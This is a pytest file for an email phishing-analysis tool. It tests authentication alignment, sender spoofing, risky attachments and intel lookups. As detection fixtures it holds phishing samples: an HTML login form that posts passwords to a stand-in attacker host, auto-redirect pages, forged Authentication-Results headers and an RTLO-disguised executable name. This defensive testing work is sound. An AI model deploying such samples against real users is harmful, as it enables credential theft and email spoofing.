from heron.analyzers import REGISTRY, AnalyzerContext, Lookups
from heron.domain.entities import EntityRef, EntityType
from heron.domain.verdicts import Severity, StepStatus
from heron.intel.lists import ListEntry, OrgLists
from heron.intel.model import FeedResult, Indicator, IntelIndex
from heron.mail.parse import parse_message as parse
from tests.factories import address, attachment, auth, facts, url


def run(name: str, message, lookups: Lookups | None = None):
    entity = EntityRef(EntityType.MESSAGE, message.sha256)
    return REGISTRY[name].run(AnalyzerContext(message, entity, lookups or Lookups()))


def codes(result) -> dict[str, Severity]:
    return {f.code: f.severity for f in result.findings}


def test_every_analyzer_declares_what_it_accepts():
    for analyzer in REGISTRY.values():
        assert analyzer.accepts and analyzer.description


def test_authentication_without_results_is_not_applicable():
    assert run("authentication", facts()).status is StepStatus.NOT_APPLICABLE


def test_spf_fail_and_unaligned_from_are_findings_with_reasons():
    message = facts(
        from_=address("hr@payroll.test"),
        authentication_results=(
            auth("spf=fail smtp.mailfrom=payroll.test; dkim=none; dmarc=fail"),
        ),
    )
    result = run("authentication", message)
    found = codes(result)
    assert found["spf-fail"] is Severity.MEDIUM
    assert "dmarc-unaligned" in found
    assert (
        "mx.example.org"
        in next(f for f in result.findings if f.code == "spf-fail").summary
    )


def test_dkim_pass_on_a_subdomain_aligns_relaxed():
    message = facts(
        from_=address("news@example.com"),
        authentication_results=(
            auth(
                "spf=pass smtp.mailfrom=bounce.esp.test; dkim=pass header.d=mail.example.com"
            ),
        ),
    )
    assert (
        codes(run("authentication", message))["dmarc-aligned"] is Severity.INFORMATIONAL
    )


def test_alignment_uses_the_organisational_domain_of_hyphenated_names():
    message = facts(
        from_=address("a@login.my-bank.co.uk"),
        authentication_results=(auth("dkim=pass header.d=my-bank.co.uk"),),
    )
    assert "dmarc-aligned" in codes(run("authentication", message))


def test_only_the_topmost_header_is_trusted_by_default():
    forged = auth(
        "spf=pass smtp.mailfrom=evil.test; dkim=pass header.d=evil.test",
        "attacker.test",
        1,
    )
    real = auth("spf=fail smtp.mailfrom=evil.test", "mx.example.org", 0)
    message = facts(
        from_=address("ceo@evil.test"), authentication_results=(real, forged)
    )
    found = codes(run("authentication", message))
    assert "spf-fail" in found and "untrusted-authentication-results" in found


def test_configured_authserv_id_picks_its_header():
    other = auth("spf=pass smtp.mailfrom=sender.test", "relay.example.org", 0)
    ours = auth("spf=fail smtp.mailfrom=sender.test", "mx.example.org", 1)
    message = facts(
        from_=address("x@sender.test"), authentication_results=(other, ours)
    )
    result = run(
        "authentication", message, Lookups(trusted_authserv_ids=("mx.example.org",))
    )
    assert "spf-fail" in codes(result)


def test_reply_to_another_organisation_is_a_finding():
    message = facts(
        from_=address("a@bank.test"), reply_to=(address("b@freemail.test"),)
    )
    assert "reply-to-mismatch" in codes(run("sender", message))


def test_reply_to_a_subdomain_of_the_same_organisation_is_fine():
    message = facts(
        from_=address("a@bank.test"), reply_to=(address("b@support.bank.test"),)
    )
    assert run("sender", message).status is StepStatus.NOTHING_FOUND


def test_display_name_showing_another_address_is_a_finding():
    message = facts(from_=address("x@evil.test", "ceo@example.org"))
    assert (
        codes(run("sender", message))["display-name-address-mismatch"]
        is Severity.MEDIUM
    )


def test_risky_attachment_names_and_types():
    message = facts(
        attachments=(
            attachment("invoice.pdf.exe", true_type="application/x-dosexec"),
            attachment("report.pdf", true_type="text/html"),
            attachment("notes.txt", true_type="text/plain"),
            attachment("inv\u202efdp.exe"),
        )
    )
    found = {
        (f.details["filename"], f.code) for f in run("attachments", message).findings
    }
    assert ("invoice.pdf.exe", "risky-extension") in found
    assert ("invoice.pdf.exe", "executable-content") in found
    assert ("report.pdf", "type-mismatch") in found
    assert ("notes.txt", "attachment-ok") in found
    assert ("inv\u202efdp.exe", "bidi-name") in found


def _intel(*indicators: Indicator) -> Lookups:
    index = IntelIndex()
    index.add(FeedResult("test-feed", "plain", list(indicators)))
    return Lookups(intel=index, intel_size=len(index))


def test_url_listed_in_intel_is_high():
    message = facts(urls=(url("https://evil.test/login"), url("https://fine.test/")))
    lookups = _intel(
        Indicator("url", "https://evil.test/login", "test-feed", "phishing")
    )
    result = run("url-reputation", message, lookups)
    severities = {f.entity.value: f.severity for f in result.findings}
    assert severities == {
        "https://evil.test/login": Severity.HIGH,
        "https://fine.test/": Severity.INFORMATIONAL,
    }


def test_url_whose_domain_is_listed_is_high():
    message = facts(urls=(url("https://a.b.evil.test/x"),))
    lookups = _intel(Indicator("domain", "evil.test", "test-feed"))
    assert run("url-reputation", message, lookups).findings[0].severity is Severity.HIGH


def test_url_on_a_listed_ip_network_is_high():
    message = facts(urls=(url("http://203.0.113.9/login"), url("https://fine.test/")))
    lookups = _intel(Indicator("ip-network", "203.0.113.0/24", "test-feed", "phishing"))
    result = run("url-reputation", message, lookups)
    severities = {f.entity.value: f.severity for f in result.findings}
    assert severities["http://203.0.113.9/login"] is Severity.HIGH
    assert severities["https://fine.test/"] is Severity.INFORMATIONAL


def test_listed_sending_ip_is_high_and_an_unlisted_one_is_checked():
    hop = "from mx.evil.test (mx.evil.test [185.220.101.7]) by mx.example.org"
    message = parse(
        f"Received: {hop}\r\nFrom: a@evil.test\r\nSubject: x\r\n\r\nbody\r\n".encode()
    )
    listed = run(
        "ip-reputation", message, _intel(Indicator("ip", "185.220.101.7", "f"))
    )
    assert [(f.entity.value, f.severity) for f in listed.findings] == [
        ("185.220.101.7", Severity.HIGH)
    ]
    other = run("ip-reputation", message, _intel(Indicator("ip", "192.0.2.1", "f")))
    assert [f.severity for f in other.findings] == [Severity.INFORMATIONAL]
    assert other.status is StepStatus.NOTHING_FOUND


def test_reputation_without_feeds_says_it_could_not_check():
    message = facts(urls=(url("https://evil.test/"),))
    assert run("url-reputation", message).status is StepStatus.NOT_APPLICABLE


def test_file_hash_listed_in_intel_is_high():
    file = attachment("a.doc", b"macro")
    lookups = _intel(Indicator("md5", file.md5, "hashes"))
    result = run("file-reputation", facts(attachments=(file,)), lookups)
    assert result.findings[0].severity is Severity.HIGH


def test_block_listed_sender_domain_is_high_and_allow_is_informational():
    lists = OrgLists(
        [
            ListEntry("domain", "evil.test", "block"),
            ListEntry("sender", "friend@ok.test", "allow"),
        ]
    )
    blocked = run(
        "org-lists", facts(from_=address("x@mail.evil.test")), Lookups(org_lists=lists)
    )
    allowed = run(
        "org-lists",
        facts(from_=address("friend@ok.test"), envelope_sender=""),
        Lookups(org_lists=lists),
    )
    assert [f.severity for f in blocked.findings] == [Severity.HIGH]
    assert [f.severity for f in allowed.findings] == [Severity.INFORMATIONAL]


def test_indicators_lists_the_entities_of_the_message():
    message = facts(
        urls=(url("https://evil.test/a"),), attachments=(attachment("a.txt"),)
    )
    result = run("indicators", message)
    kinds = {entity.type for entity, _ in result.entities}
    assert {
        EntityType.URL,
        EntityType.FILE,
        EntityType.SENDER,
        EntityType.DOMAIN,
    } <= kinds


def test_a_from_address_without_a_real_domain_is_a_finding():
    quoted = run("sender", facts(from_=address('"support@bank.test"', "Bank")))
    single = run("sender", facts(from_=address("notice@correios", "Correios")))
    assert "from-without-domain" in codes(quoted)
    assert "from-without-domain" in codes(single)


def test_an_html_attachment_with_a_login_form_is_high():
    page = b"<form action='https://collect.evil.test/p'><input type=PASSWORD name=p></form>"
    message = facts(
        attachments=(attachment("invoice.html", page, true_type="text/html"),)
    )
    result = run("attachments", message)
    form = next(f for f in result.findings if f.code == "credential-form")
    assert form.severity is Severity.HIGH and "collect.evil.test" in form.summary


def test_two_from_headers_are_a_finding():
    message = facts(
        headers=(("From", "a@attack.test"), ("From", "admin@legitimate.test"))
    )
    assert "several-from" in codes(run("sender", message))


def test_a_display_name_holding_a_second_address_in_angles_counts_as_two_senders():
    message = facts(
        headers=(("From", '"Accounts <accounts@example.org>" <billing@x.test>'),)
    )
    assert "several-from" in codes(run("sender", message))


def test_own_domain_without_authentication_is_a_spoof():
    message = facts(
        from_=address("ceo@example.org"),
        authentication_results=(auth("spf=pass smtp.mailfrom=evil.test; dkim=none"),),
    )
    result = run("authentication", message, Lookups(org_domains=("example.org",)))
    assert codes(result)["own-domain-spoof"] is Severity.HIGH


def test_links_and_files_of_an_attached_message_are_examined():
    inner = facts(
        urls=(url("https://login.evil.test/x"),),
        attachments=(
            attachment("invoice.pdf.exe", b"MZ", true_type="application/x-dosexec"),
        ),
    )
    outer = facts(attachments=(attachment("forwarded.eml", b"raw", message=inner),))
    lookups = _intel(Indicator("domain", "evil.test", "test-feed"))
    assert run("url-reputation", outer, lookups).findings[0].severity is Severity.HIGH
    assert "risky-extension" in codes(run("attachments", outer))
    kinds = {entity.type for entity, _ in run("indicators", outer).entities}
    assert EntityType.URL in kinds


def test_a_message_not_read_whole_is_not_clean():
    from heron.mail.facts import MailWarning

    message = facts(
        warnings=(MailWarning("part-limit", "0", "1000 parts read; 5 skipped"),)
    )
    result = run("indicators", message)
    assert codes(result)["not-fully-read"] is Severity.MEDIUM


def test_a_wrapped_link_showing_its_own_wrapped_text_is_no_mismatch():
    wrapped = "https://urldefense.com/v3/__https://github.com/org/repo__;!!A!b$"
    from heron.mail.urls import make_url

    message = facts(urls=(make_url(wrapped, "html-href", anchor_text=wrapped),))
    found = codes(run("links", message))
    assert "anchor-mismatch" not in found and "unwrapped" in found


def test_a_header_forged_in_the_trusted_hops_name_is_a_finding():
    # The sender wrote a "pass" in the receiving server's name; the server's own
    # header, added on top when the message arrived, says otherwise.
    real = auth("spf=fail smtp.mailfrom=evil.test; dkim=none", "mx.example.org", 0)
    forged = auth(
        "spf=pass smtp.mailfrom=example.org; dkim=pass header.d=example.org",
        "mx.example.org",
        1,
    )
    message = facts(
        from_=address("ceo@example.org"), authentication_results=(real, forged)
    )
    result = run(
        "authentication", message, Lookups(trusted_authserv_ids=("mx.example.org",))
    )
    found = codes(result)
    assert found["forged-authentication-results"] is Severity.MEDIUM
    assert "dmarc-aligned" not in found
    forged_finding = next(
        f for f in result.findings if f.code == "forged-authentication-results"
    )
    assert "mx.example.org" in forged_finding.summary
    unconfigured = codes(run("authentication", message))
    assert "forged-authentication-results" not in unconfigured


def test_dkim_pass_for_another_domain_does_not_align():
    message = facts(
        from_=address("payments@bank.test"),
        authentication_results=(
            auth("spf=none; dkim=pass header.d=bulk-mailer.test; dmarc=fail"),
        ),
    )
    result = run("authentication", message)
    [finding] = [f for f in result.findings if f.code == "dmarc-unaligned"]
    assert "only bulk-mailer.test authenticated" in finding.summary


def test_an_html_attachment_that_redirects_on_opening_is_a_finding():
    for page in (
        b'<meta http-equiv="refresh" content="0; url=https://go.evil.test/m">',
        b"<script>window.location.href='https://go.evil.test/j'</script>",
        b"<script>location.replace('https://go.evil.test/r')</script>",
    ):
        message = facts(
            attachments=(attachment("scan.html", page, true_type="text/html"),)
        )
        found = next(
            f for f in run("attachments", message).findings if f.code == "html-redirect"
        )
        assert found.severity is Severity.MEDIUM and "go.evil.test" in found.summary


def test_without_libmagic_a_plain_looking_file_could_not_be_checked():
    from heron.mail.facts import MailWarning

    message = facts(
        attachments=(
            attachment("report", b"\x00\x01", true_type="application/octet-stream"),
        ),
        warnings=(MailWarning("libmagic-missing", "attachments", "not installed"),),
    )
    assert set(codes(run("attachments", message))) == {"could-not-check"}
